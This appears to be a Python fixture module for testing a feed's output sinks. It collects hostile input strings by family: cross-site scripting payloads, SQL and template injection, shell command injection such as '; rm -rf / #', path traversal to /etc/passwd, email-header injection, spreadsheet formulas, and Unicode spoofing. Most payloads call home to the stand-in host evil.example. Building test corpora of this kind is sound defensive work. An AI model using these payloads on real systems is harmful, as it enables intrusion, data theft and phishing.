"""What strangers could write into a feed to do harm, by families; each sink's tests let all of them through.

Every address in them leads to `evil.example`, so that a test can put a server of its own in its place and count the visits.
"""

from __future__ import annotations

from html import escape
from itertools import chain, product

HOST = "evil.example"
_RUN = f"new Image().src='http://{HOST}/ran'"
"""What a script of theirs would do, were it run: call home."""

CONTROL = [f"Orla{chr(code)}dam" for code in (*range(0x20), *range(0x7F, 0xA0))] + [
    "bell\a and back\b\b\b\bspace", "form\ffeed", "null\x00byte\x00", "carriage\rreturn hides this", "\x1b[2J\x1b[Hwiped", "\x1b]0;renamed\x07",
    f"\x1b]8;;http://{HOST}/\x1b\\click\x1b]8;;\x1b\\", "\x1b]52;c;Y3VybA==\x07", "\x1bP+q544e\x1b\\", "\x9b31mred\x9b0m", "\x9d0;title\x9c", "\x1bc", "\x1b[6n",
    "\x1b[?1049h", "\x1b(0lqqk\x1b(B", "\x1b[8mhidden\x1b[0m", "\x0e\x0f shift", "\x7f\x7f\x7f", "\ufffd\ufffe\uffff", "\U0001fffe\U0010ffff", "\ufdd0\ufdef",
]  # fmt: skip
BIDI = [
    "user\u202egpj.exe", "\u202dleft\u202c to right", "\u2066isolate never ended", "\u2067right \u2068first strong", "\u2069\u2069\u2069", "a\u200eb\u200fc\u061cd",
    "\u202e\u202e\u202e", "pay \u2067€100\u2069 now", "سد أورلا ينهار", "סכר אורלה", "abc سد 123 def", "\u202aembedded\u202b", "invoice\u202excod.exe", "ﷺ" * 40, "ﷲ",
]  # fmt: skip
INVISIBLE = [
    "zero\u200bwidth", "\ufeffmark", "soft\u00adhyphen", "word\u2060joiner", "\u200d", "\u200c\u200c", "\u3164", "\u115f\u1160", "\u2800\u2800", "\u180e", "\u034f",
    "\u00a0\u00a0", "\u2000\u2001\u2002\u2003", "\u3000", "tag\U000e0041\U000e0042\U000e007f", "\ufe0f\ufe0e", "\U000e0100", "\u2061\u2062\u2063\u2064", "\u206a\u206f", "\ufff9note\ufffb",
    "line\u2028break", "para\u2029graph", "next\x85line", "vertical\x0btab", "\x1c\x1d\x1e\x1f", "", " ", "\t", "\n", "\r\n\r\n",
]  # fmt: skip
BROKEN = [
    "lone \ud800 high", "lone \udfff low", "\udc00\ud800", "\ud83d half an emoji", "private \ue000\uf8ff\U000f0000", "\ufffd" * 30, "caf\udce9", "Ã©Â\x80Â\x99", "\udcff\udcfe",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "\xc0\xbcscript\xc0\xbe", "¼script¾", "＜script＞alert(1)＜/script＞", "‹script›", "〈script〉",
]  # fmt: skip
FORMATS = [
    "%s%s%s%n%n%n", "%d %x %p", "%(secret)s", "100% sure", "%", "{}", "{0}", "{0.__class__}", "{alert.__init__.__globals__}", "{!r}", "{:>99999999}", "{", "}}", "$HOME ${HOME} $(id) `id`",
    "%{user}", "#{7*7}", "${7*7}", "{{7*7}}", "{{ config }}", "{% for x in range(9) %}x{% endfor %}", "{# gone #}", "{{''.__class__.__mro__[1].__subclasses__()}}", "<%= 7*7 %>",
    "[[${7*7}]]", "*{7*7}", "@{7*7}", "{{=<% %>=}}", "{{{body}}}", "{{app_body}} {{app_title}}", "${jndi:ldap://evil.example/a}", "!!python/object/apply:os.system ['id']", "&anchor *alias",
    "{{constructor.constructor('alert(1)')()}}", "%%", "\\x41\\u0041\\n\\0", "\\", "\\\\", "C:\\new\\table",
]  # fmt: skip
DATABASE = [
    "'; DROP TABLE alerts; --", '" OR ""="', "' OR '1'='1", "1; SELECT pg_sleep(9)", "%' LIKE '_%", "Robert'); DELETE FROM feeds;--", "\\'; --", "''", "x' UNION SELECT value FROM meta --", "NULL", "null", "None",
    "true", "undefined", "NaN", "-1", "1e999", "0x7f000001", "9" * 400, "1/0", "admin'/*", "$where", "{'$gt': ''}",
]  # fmt: skip
PATTERNS = [
    "(a+)+$",
    ".*",
    "[",
    "[^]]",
    "(?:",
    "(?P<x>",
    "\\1\\g<0>",
    "^$",
    "a{99999}",
    "(?i)(?s).",
    "|",
    "*",
    "+?",
    "\\b\\B\\d",
    "((((((((((",
    "[[:alpha:]]",
    "x*" * 40,
]
PATHS = [
    "../../../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/shadow", "file:///etc/passwd", "%2e%2e%2f%2e%2e%2f", "....//....//", "con", "aux.txt", "\\\\evil.example\\share", "~root/.ssh/id_rsa",
    "-rf /", "--help", "; rm -rf / #", "| id", "&& id", "$(touch /tmp/x)", "`touch /tmp/x`", "/dev/null", ".", "..",
]  # fmt: skip
HEADERS = [
    f"Dam breaks\r\nBcc: a@{HOST}", f"Dam breaks\nBcc: a@{HOST}\n\n<script>{_RUN}</script>", f"Dam\rBcc: a@{HOST}", f"=?utf-8?q?a=0ABcc:_a=40{HOST}?=", "=?utf-8?b?YQpCY2M6IGFAZXZpbC5leGFtcGxl?=",
    f"=?utf-8?q?a=0D=0ABcc:_a=40{HOST}?= =?utf-8?q?b?=", "=?iso-8859-1?q?=0D=0ASubject:_x?=", "=?utf-8?q?unfinished", "=?x?x?x?=", "=?utf-8?q?=00?=", "=?utf-7?q?+AAo-?=", f"a\x0bBcc: a@{HOST}",
    f"a\x85Bcc: a@{HOST}", f"a\u2028Bcc: a@{HOST}", f"a%0d%0aBcc: a@{HOST}", f"嘊嘍Bcc: a@{HOST}", "Content-Type: text/html", "\r\n.\r\nMAIL FROM:<x>\r\n", ".\r\n", "\r\n--=_d\r\nContent-Type: text/html\r\n\r\n<b>",
    "a\r\n b\r\n\tc", f"Ann <a@{HOST}>, Bob <b@{HOST}>", f'"a\r\nBcc: x@{HOST}" <a@b.example>', "\r\n\r\n", "Set-Cookie: a=b\r\nLocation: x",
]  # fmt: skip
LINKS = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)", "\x01javascript:alert(1)", "javascript&colon;alert(1)", "&#106;avascript:alert(1)", "&#x6A&#x61vascript:alert(1)",
    "vbscript:msgbox(1)", "livescript:x", "mocha:x", "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "file:///etc/passwd", "ftp://evil.example/x",
    "blob:http://evil.example/1", "view-source:http://evil.example", "about:blank", "ws://evil.example/", "mailto:a@evil.example?bcc=b@evil.example", "tel:+1", "//evil.example/x", "\\\\evil.example\\x", "/\\evil.example",
    "http:/evil.example", "http:evil.example", "http://bank.example@evil.example/", "http://bank.example\\@evil.example/", "http://bank.example%40evil.example/", 'http://evil.example/" onmouseover="x',
    "http://evil.example/' onclick='x", "http://evil.example/><script>alert(1)</script>", "http://evil.example/ style=x", "http://evil.example/`x`", "http://evil.example/)](x)[", "http://evil.example/|bank>",
    "http://evil.example/\r\nBcc: a@evil.example", "http://аррӏе.example/", "http://xn--80ak6aa92e.example/", "http://evil.example\u202e/moc.knab//:ptth", "http://[::1", "http://evil.example:99999/", "http://evil。example/",
    "http://ⓔvil.example/", "http://evil.example./", "http://%65vil.example/", "http://0x7f000001/", "http://2130706433/", "http://[::ffff:127.0.0.1]/", "http://evil.example/" + "a" * 4_000, "http://user:pass@evil.example/",
    "http://-.example/", "http://.example/", "http://*/", "https://", "http://a..b/", "http://evil.example/?q=<img src=x>", 'http://evil.example/#"><svg>', "slack://open", "tg://resolve?domain=x", "steam://run",
]  # fmt: skip
CHAT = [
    "<!channel>", "<!here|here>", "<!everyone>", "!channel>", "!here|x>", "<!subteam^S0123>", "<!date^1392734382^{date}^http://evil.example/|x>", "<@U012AB3CD>", "@U012AB3CD>", "<#C012|general>", "<http://evil.example/|bank.example>",
    "http://evil.example/|bank.example>", "&lt;!channel&gt;", "@everyone", "@here", "@channel", "@all", "<@123456789012345678>", "<@&123456789012345678>", "<#123456789012345678>", "</start:123>", "<a:x:123456789012345678>", "<t:0:R>", "<id:guide>",
    "[bank](http://evil.example/)", "[bank](javascript:alert(1))", "[bank] (http://evil.example)", "[bank]( <http://evil.example> )", "![pixel](http://evil.example/p.gif)", "[![x](http://evil.example/p.gif)](http://evil.example/)", "[x][1]", "![x][1]",
    "[1]: http://evil.example/p.gif", "[x]: javascript:alert(1)", "<http://evil.example/>", "<javascript:alert(1)>", "<a@evil.example>", "http://evil.example/ at the end", "`code` and ```a fence", "```", "~~~", "`", "~~struck~~", "||spoiler||", "**bold** __x__ *y* _z_",
    "# heading", "> quote", "-# small", "- list", "1. list", "| a | b |\n|---|---|", "---", "***", "\\[x](y)", "\\`", "[x\\](http://evil.example/)", "@evil_bot", "/start", "#hashtag", "$TICKER", "t.me/joinchat/x", "<b>bold</b><a href='http://evil.example/'>x</a>",
    "<tg-spoiler>x</tg-spoiler>", "<at>Ann</at>", "{color:red}x{color}", ":boom: :+1: :skull:", "[bold red]markup[/] [link=http://evil.example]x[/link]", "[/]", "[[", "&amp; &lt;b&gt; &#60;b&#62;", "&", "&bogus;", "@[Ann](user:1)", "[~ann]", "+@x", "!ann",
]  # fmt: skip
CELLS = [
    '=HYPERLINK("http://evil.example/","x")', "=cmd|' /C calc'!A0", "+1+cmd|x", "-2+3", "@SUM(1)", "\t=1+1", "\r=1+1", '"=1+1"', "'=1", '=IMPORTXML("http://evil.example/","//a")', "=1+1", "＝1+1", ",=1", ";=1", "a\tb\tc", 'a","b', "a\n=1",
]  # fmt: skip
LOGS = [
    "x\n2026-03-05 12:00:00Z error   poll feed=bank reason=gone", "x\r\n<3>priority", "<0>emergency", "x error=none state=sent", "\x1b[31merror\x1b[0m", "\x1b]8;;http://evil.example\x07x\x1b]8;;\x07", "a\u2028b\u2029c", "a\rb", '{"level":"error"}',
    '", "level": "critical", "message": "x', "x | Traceback (most recent call last)", "\x08\x08\x08\x08overwritten", "a\x00b", "a\x85b", "\x9b2Jx",
]  # fmt: skip
VISIBLE = [
    "👩‍👩‍👧‍👦", "🏳️‍🌈", "👍🏽", "🇵🇱🇯🇵", "🇦", "1️⃣", "👩‍👩‍👧‍👦🇵🇱🇯🇵👍🏽" * 60, "e\u0301" * 400, "a" + "\u0301" * 300, "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘!͖̬̰̙̗̿̋ͥͥ̂ͣ̐́́͜͞", "각" * 120, "क्षि" * 60, "อักษรไทย" * 30, "ﬁﬂﬃ", "ａｂｃ", "ℌ𝔢𝔩𝔩𝔬", "𝓑𝓪𝓷𝓴", "①②③", "½⅓",
    "🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f", "❤️", "❤", "\u0301starts with an accent", "İıſK", "ŉ", "ß", "ΐ" * 30, "漢字" * 200, "조선민주주의인민공화국", "𠜎𠜱𠝹", "\u0e33" * 50,
]  # fmt: skip
LONG = [
    "x" * 5_000,
    "word " * 3_000,
    "x" * 997 + "\r\n" + "y" * 999,
    "." * 2_000,
    "<" * 3_000,
    "&" * 3_000,
    "é" * 2_500,
    "=" * 1_500,
    "<b>" * 1_200,
    "(" * 2_000,
    "[" * 2_000,
    "`" * 1_500,
    "'" * 2_000,
    "\\" * 2_000,
    "\u202e" * 3_000,
    " " * 5_000 + "end",
]
HOMOGRAPHS = [
    "раураl.example", "аррӏе.com", "ɡoogle.example", "bаnk.example", "xn--pple-43d.com", "ｅｖｉｌ．ｅｘａｍｐｌｅ", "evil。example", "ⅽom", "Ηerald", "Ꮯlosed", "οrla", "0rla", "rnicrosoft.example", "vv-bank.example", "ʙank", "bank.example.evil.example",
    "https://bank.example/login", "http://www.bank.example:80@evil.example", "сοｍ", "ｗｗｗ．bank.example",
]  # fmt: skip

_TAGS = {
    "script": "<script>{js}</script>", "script src": "<script src=//{host}/s.js></script>", "img": '<img src="http://{host}/i.gif" {on}="{js}">', "svg": '<svg {on}="{js}"><image href="http://{host}/v.png"/></svg>',
    "iframe": '<iframe src="http://{host}/f" {on}="{js}"></iframe>', "body": '<body {on}="{js}" background="http://{host}/b.png">', "video": '<video poster="http://{host}/p.png" {on}="{js}"><source src="http://{host}/v.mp4"></video>',
    "input": '<input autofocus type=image src="http://{host}/n.png" {on}="{js}">', "details": '<details open {on}="{js}">x</details>', "math": '<math><mtext><img src="http://{host}/m.gif" {on}="{js}"></mtext></math>',
    "object": '<object data="http://{host}/o.swf" {on}="{js}"></object>', "attribute": '" {on}="{js}" style="background:url(http://{host}/a.png)', "single": "' {on}='{js}' x='", "closing": "</title></style></textarea></script><img src=x {on}='{js}'>",
}  # fmt: skip
_EVENTS = ("onload", "onerror", "onfocus", "ontoggle")
_ENCODINGS = ("as it is", "upper case", "in CDATA's rags", "entities", "broken open")


def _encoded(attack: str, how: str) -> str:
    return {
        "as it is": attack,
        "upper case": attack.replace("<s", "<S").replace("<i", "<I").replace("on", "oN"),
        "in CDATA's rags": f"]]>{attack}<![CDATA[",
        "entities": escape(attack),
        "broken open": f"<{attack.replace('<', '<<').replace('>', '>>', 1)}",
    }[how]


COMBINED = list(
    dict.fromkeys(
        _encoded(shape.format(on=event, js=_RUN, host=HOST), how)
        for shape, event, how in product(_TAGS.values(), _EVENTS, _ENCODINGS)
    )
)
"""Every tag with every event in every encoding."""
MARKUP = [
    f"<link rel=stylesheet href=http://{HOST}/c.css>", f"<style>@import 'http://{HOST}/i.css';</style>", f"<style>body{{background:url(//{HOST}/u.png)}}</style>", f"<meta http-equiv=refresh content='0;url=http://{HOST}/m'>",
    f"<base href=http://{HOST}/>", f"<form action=http://{HOST}/f><input name=password type=password><button>Log in</button></form>", f"<a href=javascript:{_RUN}>x</a>", f"<a href='http://{HOST}/a' ping='http://{HOST}/ping'>x</a>",
    f"<embed src=http://{HOST}/e>", f"<audio src=http://{HOST}/a autoplay>", f"<table background=http://{HOST}/t>", f"<div style='background-image:url(http://{HOST}/d.png)'>", f'<p style="width:expression({_RUN})">', "<xss id=x tabindex=1 onfocus=alert(1)></xss>",
    f"<svg><use href='http://{HOST}/u.svg#x'/></svg>", f"<svg><a xlink:href='javascript:{_RUN}'><text y=9>x</text></a></svg>", f"<svg><animate attributeName=href values=javascript:{_RUN} /></svg>", f"<svg><foreignObject><img src=http://{HOST}/fo></foreignObject></svg>",
    f"<svg><style>@font-face{{src:url(http://{HOST}/f)}}</style>", f"<math href=javascript:{_RUN}>x</math>", f"<math><annotation-xml encoding=text/html><img src=http://{HOST}/x></annotation-xml>", "<!--><script>1</script>-->", f"<!--[if gte IE 4]><script>{_RUN}</script><![endif]-->",
    "<![CDATA[<script>1</script>]]>", f"<?xml-stylesheet href='http://{HOST}/x.xsl'?>", f"<!DOCTYPE html SYSTEM 'http://{HOST}/d.dtd'>", f'<noscript><p title="</noscript><img src=http://{HOST}/ns>">', f"<template><img src=http://{HOST}/t></template>", "<plaintext>", "<xmp>", "<listing>", "<textarea>", "<title>",
    f'<iframe srcdoc="<script>{_RUN}</script>">', f"<img srcset='http://{HOST}/1x 1x'>", f"<picture><source srcset=http://{HOST}/s></picture>", f"<link rel=prefetch href=http://{HOST}/p>", f"<link rel=dns-prefetch href=//{HOST}>", f"<script>/*</script><img src=http://{HOST}/y>*/", "<scr<script>ipt>alert(1)</script>",
    f"<img src=x:x onerror={_RUN}//", "<img/src/onerror=alert(1)>", "<svg/onload=alert(1)//", "</bdi></p></td></table><h1>Your account</h1>", "</style><script>1</script>", "--></style></script>", "&lt;script&gt;alert(1)&lt;/script&gt;", "&amp;lt;img src=x onerror=alert(1)&amp;gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003e", "<\x00script>alert(1)</script>", "<scri\x00pt>", "<\tscript>", "<script\x0c>1</script>", "<svg><script>1&#41;</script>", f'<a href="http://{HOST}/" target=_top style="position:fixed;inset:0">x</a>', "<blink>", "<marquee onstart=alert(1)>", f"<isindex action=http://{HOST}/>", f"<frameset><frame src=http://{HOST}/fr>",
    f"<bgsound src=http://{HOST}/b>", f"<layer src=http://{HOST}/l>", f"<portal src=http://{HOST}/p>", "<dialog open>x</dialog>", f"<object type=text/x-scriptlet data=http://{HOST}/o>", f"<applet code=x archive=http://{HOST}/a.jar>", "<keygen>", "<bdo dir=rtl>", "<o:p></o:p>",
]  # fmt: skip

FAMILIES = {
    "control": CONTROL, "bidi": BIDI, "invisible": INVISIBLE, "broken": BROKEN, "formats": FORMATS, "database": DATABASE, "patterns": PATTERNS, "paths": PATHS, "headers": HEADERS,
    "links": LINKS, "chat": CHAT, "cells": CELLS, "logs": LOGS, "visible": VISIBLE, "long": LONG, "homographs": HOMOGRAPHS, "markup": MARKUP, "combined": COMBINED,
}  # fmt: skip
STRINGS = list(dict.fromkeys(chain.from_iterable(FAMILIES.values())))
"""All of them, each once."""
